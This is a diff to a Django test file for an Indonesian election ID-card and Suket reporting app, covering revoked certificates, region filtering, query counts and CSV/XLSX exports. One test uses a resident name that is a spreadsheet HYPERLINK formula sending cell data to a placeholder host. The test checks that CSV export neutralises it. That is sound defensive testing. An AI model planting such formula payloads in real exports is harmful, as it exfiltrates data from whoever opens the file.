@@ -5,16 +5,20 @@ from __future__ import annotations
 
 import csv
 import io
+from collections import Counter
 from datetime import date, datetime, time
 
 import openpyxl
 import pytest
 from django.conf import settings
 from django.core.exceptions import PermissionDenied
+from django.db import connection
 from django.http import Http404
+from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from django.utils import translation
 from django.utils.html import escape
+from django.utils.translation import pgettext
 
 from rekam.accounts.models import Role, User
 from rekam.accounts.services import user_create
@@ -24,14 +28,15 @@ from rekam.lib.nik import mask_nik
 from rekam.notifications.models import Message
 from rekam.notifications.models import State as MessageState
 from rekam.regions.models import Region
+from rekam.reporting.exports import table_bytes
 from rekam.reporting.figures import dashboard
-from rekam.reporting.flags import FLAG_KINDS, flag_records, flags_for
+from rekam.reporting.flags import FLAG_KINDS, flag_records, flag_regions, flags_for
 from rekam.residents.services import record_move, resident_update
 from rekam.residents.states import KtpState, MoveSource
 from rekam.servicepoints.models import HolidayOpening, ServicePoint
 from rekam.servicepoints.services import calendar_day_set
 from rekam.suket.models import BlankMovement, Printer, Suket
-from rekam.suket.services import suket_issue
+from rekam.suket.services import suket_issue, suket_revoke_for_resident
 from rekam.suket.stock import blank_receive, blank_spoil, printer_set_status
 from rekam.voters.models import VoterClass
 
@@ -43,6 +48,7 @@ from .test_suket_support import jakarta, make_pilkada, ready_office
 
 HAJIMENA = "18.01.04.2001"  # Lampung Selatan
 POLLING_DAY = date(2020, 12, 9)
+TODAY = date(2020, 12, 5)
 PRR = KtpState.PRINT_READY_RECORD
 
 
@@ -76,7 +82,8 @@ def counts(election, user=None, **kw) -> dict[str, int]:
 
 def received(office, blanks: int, at: datetime) -> None:
     """``blanks`` cards received by ``office``, the ledger line dated when they arrived."""
-    movement = blank_receive(office=office, count=blanks, batch="B-2020-11")
+    # A batch per delivery: the same batch is not received twice.
+    movement = blank_receive(office=office, count=blanks, batch=f"B-{at:%Y%m%d%H%M}")
     BlankMovement.objects.filter(pk=movement.pk).update(at=at)
 
 
@@ -484,6 +491,115 @@ def test_suket_flags_stay_with_the_issuing_office_when_the_holder_moves(
     assert {r.code: r.sukets_issued for r in rows} == {"18.01": 2, "18.71": 0}
 
 
+def test_a_revoked_suket_keeps_the_issuance_flags_and_leaves_the_one_asking_to_revoke_it(
+    pilkada, personas
+):
+    late = issue(pilkada)  # on the 5th
+    in_time = issue(pilkada, name="Budi", at=jakarta(2020, 12, 4))
+    still = issue(pilkada, village=HAJIMENA, name="Citra")
+    Suket.objects.update(reason="")
+    pilkada.suket_issue_until = date(2020, 12, 4)  # those of the 5th: R8
+    pilkada.suket_valid_until = date(2020, 12, 20)  # every one valid too long: R8
+    pilkada.save()
+    assert counts(pilkada)["suket_late"] == counts(pilkada)["suket_no_reason"] == 3
+    for suket in (late, in_time):
+        suket_revoke_for_resident(
+            resident=suket.resident, reason="Ditarik", acting_user=personas.bdl_supervisor
+        )
+    for user in (None, personas.province_admin):
+        # Revoking undoes neither a late issuance nor a missing reason; a Suket issued in time
+        # and valid too long leaves once revoked: nothing is left to act on.
+        found = counts(pilkada, user, today=TODAY)
+        assert (found["suket_late"], found["suket_no_reason"]) == (2, 3)
+        # Each count is its list's length.
+        for kind in ("suket_late", "suket_no_reason"):
+            assert len(column(kind, "Nomor Suket", pilkada, user, today=TODAY)) == found[kind]
+    header, rows, _links = flag_records(pilkada, None, "suket_late", today=TODAY)
+    shown = {row[0]: row for row in rows}
+    assert set(shown) == {late.number, still.number}
+    status, revoked = header.index("Status"), header.index(pgettext("flag column", "Revoked"))
+    late.refresh_from_db()
+    assert shown[late.number][status] == "dicabut"
+    assert shown[late.number][revoked] == late.revoked_at.astimezone(JAKARTA)
+    assert shown[late.number][header.index(pgettext("flag column", "Reason for revocation"))] == (
+        "Ditarik"
+    )
+    # Its validity no longer matters: the breach is the issuance alone.
+    assert shown[late.number][header.index("Pelanggaran")] == "terbit setelah 04-12-2020"
+    assert shown[still.number][status] == "berlaku"
+    assert shown[still.number][revoked] is None
+    assert shown[still.number][header.index("Pelanggaran")] == (
+        "terbit setelah 04-12-2020; berlaku melewati 20-12-2020"
+    )
+    # The dashboard counts the same Sukets: three issued, two of them revoked.
+    total = dashboard(pilkada, personas.province_admin, today=TODAY).total
+    assert (total.sukets_issued, total.sukets_revoked) == (3, 2)
+
+
+def test_a_late_suket_whose_card_is_then_printed_still_counts_as_issued_late(
+    pilkada, personas, client
+):
+    late = issue(pilkada)  # on the 5th
+    pilkada.suket_issue_until = date(2020, 12, 4)
+    pilkada.save()
+    assert counts(pilkada)["suket_late"] == 1
+    # SIAK then reports the card printed: as every printed card, it revokes the Suket.
+    for state, day in ((PRR, 6), (KtpState.CARD_PRINTED, 7)):
+        record_move(
+            resident=late.resident,
+            to_state=state,
+            source=MoveSource.CENTRAL,
+            at=jakarta(2020, 12, day),
+            actor_label="SIAK",
+        )
+    late.refresh_from_db()
+    assert late.revoked_at is not None
+    for user in (None, personas.province_admin, personas.bdl_admin):
+        assert counts(pilkada, user)["suket_late"] == 1
+        assert column("suket_late", "Nomor Suket", pilkada, user) == [late.number]
+    # Its page and download show it revoked, and why.
+    client.force_login(personas.province_admin)
+    kw = {"slug": pilkada.slug, "kind": "suket_late"}
+    page = client.get(reverse("dashboard_flag", kwargs=kw))
+    assert page.context["page"].paginator.count == 1
+    ((cells, _link),) = page.context["rows"]
+    assert cells[page.context["header"].index("Status")] == "dicabut"
+    response = client.get(reverse("dashboard_flag_export", kwargs={**kw, "fmt": "csv"}))
+    read = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert read[1][read[0].index("Status")] == "dicabut"
+    assert read[1][read[0].index(pgettext("flag column", "Reason for revocation"))].startswith(
+        "KTP-el sudah dicetak"
+    )
+
+
+def test_sukets_of_a_regency_removed_from_the_election_are_left_out_as_on_the_dashboard(
+    pilkada, personas, lamsel_admin
+):
+    issue(pilkada)
+    issue(pilkada, village=HAJIMENA, name="Citra")
+    pilkada.suket_issue_until = date(2020, 12, 4)
+    pilkada.save()
+    assert counts(pilkada, personas.province_admin)["suket_late"] == 2
+    pilkada.regions.remove(Region.objects.get(code="18.01"))
+    bdl = Region.objects.get(code="18.71")
+    assert flag_regions(pilkada, personas.province_admin) == [("18.71", bdl.display_name)]
+    for user in (None, personas.province_admin):
+        assert counts(pilkada, user)["suket_late"] == 1
+        assert column("suket_late", "Kabupaten/Kota", pilkada, user) == [bdl.display_name]
+    assert counts(pilkada, lamsel_admin)["suket_late"] == 0
+    total = dashboard(pilkada, personas.province_admin, today=date(2020, 12, 5)).total
+    assert total.sukets_issued == 1
+
+
+def test_the_flag_list_looks_up_regions_offices_and_names_once(both_regions, personas, client):
+    client.force_login(personas.province_admin)
+    url = reverse("dashboard_flags", kwargs={"slug": both_regions.slug})
+    with CaptureQueriesContext(connection) as queries:
+        assert client.get(url).status_code == 200
+    repeated = [sql for sql, n in Counter(q["sql"] for q in queries).items() if n > 1]
+    assert repeated == []
+
+
 def test_someone_without_an_office_is_refused_and_an_unknown_flag_is_not_found(pilkada, db):
     nobody = User.objects.create_user(username="tamu", password=PASSWORD)
     with pytest.raises(PermissionDenied, match="tidak berwenang melihat laporan"):
@@ -583,6 +699,42 @@ def test_downloads_read_back_as_the_records(both_regions, personas, client):
     assert table[1][header.index("Diterbitkan")] == issued.astimezone(JAKARTA).replace(tzinfo=None)
 
 
+def test_a_name_a_spreadsheet_would_run_is_downloaded_as_text(pilkada, personas, client):
+    formula = '=HYPERLINK("http://contoh.test/?d="&A1,"Klik")'
+    suket = issue(pilkada, name=formula)
+    Suket.objects.filter(pk=suket.pk).update(reason="")
+    client.force_login(personas.province_admin)
+    kw = {"slug": pilkada.slug, "kind": "suket_no_reason"}
+    response = client.get(reverse("dashboard_flag_export", kwargs={**kw, "fmt": "csv"}))
+    read = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert read[1][read[0].index("Nama")] == "'" + formula
+    # XLSX cells are text already: the name as it is.
+    response = client.get(reverse("dashboard_flag_export", kwargs={**kw, "fmt": "xlsx"}))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    assert sheet is not None
+    table = [list(r) for r in sheet.iter_rows(values_only=True)]
+    assert table[1][table[0].index("Nama")] == formula
+
+
+def test_csv_cells_that_start_like_a_formula_are_kept_as_text():
+    when = datetime(2020, 12, 5, 10, 30, tzinfo=JAKARTA)
+    row = ["+62 812", "-", "@SUM(A1)", "\tx", "\rx", "Siti", -3, 1.5, when, date(2020, 12, 9)]
+    data = table_bytes("csv", [f"k{n}" for n in range(len(row))], [row])
+    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert read[1] == [
+        "'+62 812",
+        "'-",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+        "Siti",
+        "-3",
+        "1.5",
+        "05-12-2020 10.30",
+        "09-12-2020",
+    ]
+
+
 def test_a_regency_users_download_is_named_after_the_regency(both_regions, personas, client):
     kw = {"slug": both_regions.slug, "kind": "suket_no_reason", "fmt": "csv"}
     url = reverse("dashboard_flag_export", kwargs=kw)
@@ -627,6 +779,9 @@ def test_the_flag_pages_speak_indonesian_and_english(both_regions, personas, cli
         "Diterbitkan",
         "Berlaku sampai",
         "Alasan",
+        "Status",
+        pgettext("flag column", "Revoked"),
+        pgettext("flag column", "Reason for revocation"),
     ]
 
     client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
@@ -646,6 +801,9 @@ def test_the_flag_pages_speak_indonesian_and_english(both_regions, personas, cli
         "Issued",
         "Valid until",
         "Reason",
+        "Status",
+        "Revoked",
+        "Reason for revocation",
     ]
     assert client.get(one).context["header"] == header
     read = list(csv.reader(io.StringIO(client.get(csv_url).content.decode("utf-8-sig"))))
